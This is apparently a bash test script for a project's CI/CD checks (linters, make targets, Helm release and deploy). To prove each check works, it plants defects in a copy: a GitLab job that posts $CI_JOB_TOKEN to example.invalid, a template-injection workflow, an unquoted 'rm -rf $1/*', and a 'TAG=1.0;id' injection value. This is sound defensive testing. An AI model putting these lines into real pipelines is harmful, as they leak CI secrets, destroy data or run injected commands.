#!/usr/bin/env bash
# make test-pipelines: every check of the CI/CD definitions, offline.
#
#   1. The linters on this repository: actionlint (+shellcheck), zizmor --offline,
#      checkov (github_actions, gitlab_ci), yamllint --strict, shellcheck; zero findings.
#   2. check_make_targets.py: each `make` in the workflows and .gitlab-ci.yml names
#      an existing target, no project logic runs inline, ci.yml covers TEST_TARGETS.
#   3. Release versioning in a temporary copy of the repository: `make release`
#      bumps Chart.yaml version + appVersion together, `make release-check` passes
#      for the matching tag and fails for a wrong tag or a version/appVersion split,
#      bad input is refused, `make promote` edits only the image tag.
#   4. Each check of 1 and 2 run on a deliberately broken copy must fail, naming the
#      planted defect, so a check that silently stopped checking is caught.
# Ends with "N passed, N failed"; exit status 1 when anything failed.
set -euo pipefail
root="$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)"
lint="$root/scripts/pipelines/lint.sh"
checker="$root/scripts/pipelines/check_make_targets.py"
bin="$("$root/scripts/tools/ensure-venv.sh")"
python="$bin/python"

passed=0
failed=0
work="$(mktemp -d /tmp/userapi-pipelines.XXXXXX)"
trap 'rm -rf "$work"' EXIT

pass() { passed=$((passed + 1)); echo "ok   - $1"; }
fail() { failed=$((failed + 1)); echo "FAIL - $1"; }

# check NAME CMD...: CMD must succeed.
check() {
  local name="$1" log="$work/log"
  shift
  if "$@" >"$log" 2>&1; then
    pass "$name"
  else
    fail "$name"
    sed 's/^/    | /' "$log"
  fi
}

# check_fails NAME PATTERN CMD...: CMD must fail and its output must match PATTERN
# (an extended regex), so it failed for the planted reason and not another.
check_fails() {
  local name="$1" pattern="$2" log="$work/log"
  shift 2
  if "$@" >"$log" 2>&1; then
    fail "$name (expected a failure, got success)"
    sed 's/^/    | /' "$log"
  elif ! grep -Eq -- "$pattern" "$log"; then
    fail "$name (failed, but output does not match /$pattern/)"
    sed 's/^/    | /' "$log"
  else
    pass "$name"
  fi
}

# A copy of the repository as git sees it (tracked and new files, not ignored
# build output), sharing this checkout's tool venv.
copy_repo() {
  local dest="$1"
  mkdir -p "$dest"
  (cd "$root" && git ls-files -z -co --exclude-standard) \
    | while IFS= read -r -d '' f; do [[ -e "$root/$f" ]] && printf '%s\0' "$f"; done \
    | tar -C "$root" --null -T - -cf - | tar -C "$dest" -xf -
  ln -s "$root/.tools" "$dest/.tools"
}

chart_field() { # chart_field ROOT KEY
  "$python" -c 'import sys, yaml; print(yaml.safe_load(open(sys.argv[1]))[sys.argv[2]])' \
    "$1/deploy/helm/userapi/Chart.yaml" "$2"
}

echo "# 1. linters on the repository"
for tool in actionlint zizmor checkov yamllint shellcheck; do
  check "$tool: no findings" "$lint" "$tool"
done

echo "# 2. make targets used by the pipelines"
check "workflows and .gitlab-ci.yml call existing make targets only" "$python" "$checker"

echo "# 3. release versioning (temporary copy)"
rel="$work/release"
copy_repo "$rel"
old_version="$(chart_field "$rel" version)"
new_version=9.9.9
[[ "$old_version" != "$new_version" ]] || new_version=9.9.10
mk() { make --no-print-directory -C "$rel" "$@"; }
check "make release VERSION=$new_version succeeds" mk release VERSION="$new_version"
if [[ "$(chart_field "$rel" version)" == "$new_version" && "$(chart_field "$rel" appVersion)" == "$new_version" ]]; then
  pass "Chart.yaml version and appVersion both $new_version (were $old_version)"
else
  fail "Chart.yaml after release: version=$(chart_field "$rel" version) appVersion=$(chart_field "$rel" appVersion)"
fi
changed="$(cd "$rel" && diff -U0 "$root/deploy/helm/userapi/Chart.yaml" deploy/helm/userapi/Chart.yaml | grep -c '^[-+][^-+]' || true)"
if [[ "$changed" == 4 ]]; then
  pass "Chart.yaml: only the two version lines changed"
else
  fail "Chart.yaml: expected 2 lines replaced, diff has $changed changed lines"
fi
overlay="$rel/deploy/kustomize/overlays/prod/kustomization.yaml"
if [[ -f "$overlay" ]] && grep -Eq 'newTag:' "$overlay"; then
  check "prod overlay image tag follows the release" grep -Eq "newTag: *['\"]?${new_version}['\"]?" "$overlay"
fi
check "release-check passes for tag v$new_version" mk release-check GIT_TAG="v$new_version"
check_fails "release-check fails for a mismatching tag" "git tag 'v1\.0\.0'" mk release-check GIT_TAG=v1.0.0
check_fails "make release without VERSION is refused" "usage: make release VERSION" mk release
check_fails "make release VERSION=v1.2.3 is refused (no 'v')" "bare SemVer" mk release VERSION=v1.2.3
check_fails "make release VERSION=1.2 is refused (not SemVer)" "not SemVer" mk release VERSION=1.2
sed -i -E "s/^appVersion:.*/appVersion: \"$new_version-split\"/" "$rel/deploy/helm/userapi/Chart.yaml"
check_fails "release-check fails when appVersion != version" "appVersion .* != version" mk release-check

cat >"$rel/promote-values.yaml" <<'YAML'
# prod values synced by Argo CD
image:
  repository: ghcr.io/example/userapi  # published by release.yml
  tag: "1.0.0"
sidecar:
  image:
    repository: docker.io/library/busybox
    tag: "1.36"
YAML
cp "$rel/promote-values.yaml" "$work/promote-before.yaml"
check "make promote sets the userapi image tag" mk promote TAG=sha-0123abcd PROMOTE_FILES=promote-values.yaml
promote_diff="$(diff "$work/promote-before.yaml" "$rel/promote-values.yaml" || true)"
if [[ "$promote_diff" == $'4c4\n<   tag: "1.0.0"\n---\n>   tag: "sha-0123abcd"' ]]; then
  pass "promote changed exactly the userapi tag line (comments, other images untouched)"
else
  fail "promote diff was: $promote_diff"
fi
printf 'images:\n  - name: ghcr.io/example/userapi\n    digest: sha256:%064d\n' 0 >"$rel/pinned.yaml"
check_fails "promote refuses a digest-pinned kustomize image" "pinned by digest" \
  mk promote TAG=1.0.0 PROMOTE_FILES=pinned.yaml

echo "# 3b. helm-deploy (helm replaced by a stub that records its arguments)"
stub="$work/stub-bin"
mkdir -p "$stub"
cat >"$stub/helm" <<'SH'
#!/usr/bin/env bash
# Helm 4's upgrade --help mentions --rollback-on-failure; record every other call.
if [[ "$1 $2" == "upgrade --help" ]]; then echo "      --rollback-on-failure   roll back on failure"; exit 0; fi
printf '%s\n' "$*" >>"$HELM_STUB_LOG"
SH
chmod +x "$stub/helm"
printf 'apiVersion: v1\nkind: Config\n' >"$work/kubeconfig"
export HELM_STUB_LOG="$work/helm-calls.log"
deploy() { PATH="$stub:$PATH" KUBECONFIG="$work/kubeconfig" make --no-print-directory -C "$root" helm-deploy "$@"; }
check "make helm-deploy runs upgrade, test, status" \
  deploy DEPLOY_ENV=dev TAG=1.2.3 IMAGE_REPOSITORY=ghcr.io/example/userapi HELM_VALUES=deploy/helm/userapi/values.yaml
upgrade="$(grep '^upgrade ' "$HELM_STUB_LOG" || true)"
for want in "--install userapi $root/deploy/helm/userapi" "--namespace userapi-dev" "--wait" "--rollback-on-failure" \
  "--set-string image.tag=1.2.3" "--set-string image.repository=ghcr.io/example/userapi" \
  "--values $root/deploy/helm/userapi/values.yaml"; do
  if [[ "$upgrade" == *"$want"* ]]; then pass "helm upgrade has $want"; else fail "helm upgrade lacks $want: $upgrade"; fi
done
if grep -q '^test userapi --namespace userapi-dev' "$HELM_STUB_LOG"; then pass "helm test runs after the upgrade"; else fail "no helm test call"; fi
check_fails "helm-deploy refuses a tag that is not an image tag" "TAG must be an image tag" deploy DEPLOY_ENV=dev 'TAG=1.0;id'
check_fails "helm-deploy refuses a missing kubeconfig" "KUBECONFIG must name" \
  env KUBECONFIG= PATH="$stub:$PATH" make --no-print-directory -C "$root" helm-deploy DEPLOY_ENV=dev TAG=1.2.3
unset HELM_STUB_LOG

echo "# 4. every check fails on a broken copy"
bad="$work/broken"
copy_repo "$bad"
# Each defect below is aimed at one check; the expected pattern names it.
cat >"$bad/.github/workflows/broken.yml" <<'YAML'
name: broken
on: push
permissions: write-all
jobs:
  broken:
    runs-on: ubuntu-24.04
    needs: no-such-job
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.head_commit.message }}"
      - run: ls $HOME
      - run: make no-such-target
      - run: swift build 
YAML
# A real GitHub permission (models) that checkov's bundled schema does not know:
# checkov skips such a workflow without a word; the gate must notice.
cat >"$bad/.github/workflows/unparsable.yml" <<'YAML'
name: unparsable
on: push
permissions: {}
jobs:
  x:
    runs-on: ubuntu-24.04
    permissions:
      models: read
    steps:
      - run: echo hi
YAML
cat >>"$bad/.gitlab-ci.yml" <<'YAML'

leak:
  stage: test
  script:
    - curl --data "$CI_JOB_TOKEN" https://example.invalid/collect
    - make no-such-gitlab-target
YAML
cat >"$bad/scripts/pipelines/broken.sh" <<'SH'
#!/usr/bin/env bash
rm -rf $1/*
SH
printf '\nTEST_TARGETS += test-not-in-ci\ntest-not-in-ci:\n\t@true\n' >>"$bad/mk/pipelines.mk"
check_fails "actionlint catches a job needing a missing job" 'no-such-job' "$lint" actionlint "$bad"
check_fails "actionlint runs shellcheck on run: scripts" 'SC2086' "$lint" actionlint "$bad"
check_fails "zizmor catches an unpinned action" 'unpinned-uses' "$lint" zizmor "$bad"
check_fails "zizmor catches template injection" 'template-injection' "$lint" zizmor "$bad"
check_fails "checkov (github_actions) catches write-all permissions" 'CKV2_GHA_1' "$lint" checkov "$bad"
check_fails "checkov (gitlab_ci) catches curl with CI variables" 'CKV_GITLABCI_1' "$lint" checkov "$bad"
check_fails "checkov gate fails for a workflow checkov did not check" 'unparsable.yml was not checked' "$lint" checkov "$bad"
check_fails "yamllint catches trailing spaces" 'trailing-spaces' "$lint" yamllint "$bad"
check_fails "shellcheck catches an unquoted expansion" 'SC2086' "$lint" shellcheck "$bad"
check_fails "make-target check catches a missing target (GitHub)" 'no-such-target. does not exist' "$python" "$checker" --root "$bad"
check_fails "make-target check catches a missing target (GitLab)" 'no-such-gitlab-target. does not exist' "$python" "$checker" --root "$bad"
check_fails "make-target check catches inline project logic" 'runs Swift build/test/format inline' "$python" "$checker" --root "$bad"
check_fails "make-target check catches a test target ci.yml does not run" 'runs test-not-in-ci .* no ci.yml job' "$python" "$checker" --root "$bad"

echo "$passed passed, $failed failed"
[[ "$failed" -eq 0 ]]
